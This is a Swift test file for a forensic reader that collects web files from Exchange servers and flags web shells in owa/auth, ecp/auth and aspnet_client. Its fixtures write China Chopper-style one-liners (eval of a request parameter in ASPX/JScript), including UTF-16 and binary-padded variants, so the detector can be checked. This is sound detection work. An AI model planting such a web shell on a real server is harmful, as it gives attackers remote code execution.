import ExchangeEvidence
import Foundation
import Testing

@Suite struct CollectedWebFileReaderTests {
    /// An OAB virtual-directory export carrying the China Chopper one-liner, collected from aspnet_client.
    @Test func collectedWebShellIsOneEventWithItsContent() throws {
        let (s, _) = try Fixtures.load(Fixtures.path("webfiles"))
        let file = s.files[0]
        let content = String(decoding: try Data(contentsOf: URL(fileURLWithPath:
            Fixtures.path("webfiles/EX01/C/inetpub/wwwroot/aspnet_client/supp0rt.aspx"))), as: UTF8.self)
        #expect(file.kind == .webFile)
        #expect(file.server == "EX01")
        #expect(s.count == 1)
        #expect(s.time[0] == Timestamp.unknown)
        #expect(s.field("Path", of: 0) == "EX01/C/inetpub/wwwroot/aspnet_client/supp0rt.aspx")
        #expect(s.field("WebPath", of: 0) == "/aspnet_client/supp0rt.aspx")
        #expect(s.value(.urlStem, 0) == "/aspnet_client/supp0rt.aspx")
        #expect(s.field("Name", of: 0) == "supp0rt.aspx")
        #expect(s.field("Size", of: 0) == String(file.size))
        #expect(s.field("Content", of: 0) == content)
        #expect(s.field("Content", of: 0)?.contains(#"eval(Request["unsafe"],"unsafe")"#) == true)
    }

    /// The watched folders and compiled pages score; logs, other folders and other extensions do not.
    @Test(arguments: [
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/Current/one1.aspx", 60),
        (#"EX01\C\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\auth\TimeoutLogoff.aspx"#, 60),
        ("EX01/C/inetpub/wwwroot/aspnet_client/system_web/web.config", 60),
        ("EX01/C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/9c5e1f7a/App_Web_x3bxt2rb.dll", 60),
        ("EX01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", 0),
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG", 0),
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/web.aspx", 0),
        ("EX01/C/inetpub/wwwroot/aspnet_client/google.log", 0),
        ("EX01/C/Windows/Temp/App_Web_x.dll", 0),
    ])
    func pathsDecide(_ path: String, _ score: Int) {
        #expect(Array("x".utf8).withUnsafeBytes { CollectedWebFileReader().score(path: path, head: $0) } == score)
    }

    /// A compiled page is one event without content; a UTF-16 page under owa/auth is decoded.
    @Test func compiledPageAndUTF16Page() throws {
        let dir = Fixtures.tempDir()
        let dll = "EX01/C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/1a2b/3c4d/App_Web_ab12cd34.dll"
        Fixtures.write([0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0], dll, in: dir)
        var utf16: [UInt8] = [0xFF, 0xFE]
        for u in "<%@ Page Language=\"Jscript\"%>\r\n<%eval(Request.Item[\"x\"],\"unsafe\");%>".utf16 {
            utf16 += [UInt8(u & 0xFF), UInt8(u >> 8)]
        }
        Fixtures.write(utf16, "EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.aspx", in: dir)
        let (s, _) = try Fixtures.load(dir.path)
        #expect(s.files.map(\.kind) == [.webFile, .webFile])
        let compiled = try #require(s.ids(where: "Compiled", is: "true").first)
        #expect(s.field("Content", of: compiled) == nil)
        #expect(s.value(.urlStem, compiled) == dll)
        let page = try #require(s.ids(where: "Compiled", is: "false").first)
        #expect(s.field("WebPath", of: page) == "/owa/auth/x.aspx")
        #expect(s.field("Content", of: page)?.contains("eval(Request.Item[\"x\"],\"unsafe\")") == true)
        #expect(s.file(of: page).messages == ["decoded from UTF-16LE"])
    }

    /// A page padded with binary data keeps its content: the script inside is still there for the rules.
    @Test func binaryPaddedPageKeepsItsContent() throws {
        let dir = Fixtures.tempDir()
        let page: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0, 0, 0, 0x0D, 0xFF, 0] + Array("<%eval(Request[\"k\"],\"unsafe\");%>".utf8)
        Fixtures.write(page, "EX01/C/inetpub/wwwroot/aspnet_client/logo.aspx", in: dir)
        let (s, _) = try Fixtures.load(dir.path)
        #expect(s.files[0].kind == .webFile)
        #expect(s.field("Content", of: 0)?.contains("eval(Request[\"k\"],\"unsafe\")") == true)
        #expect(s.files[0].messages.first?.hasPrefix("binary data in a web page") == true)
    }
}
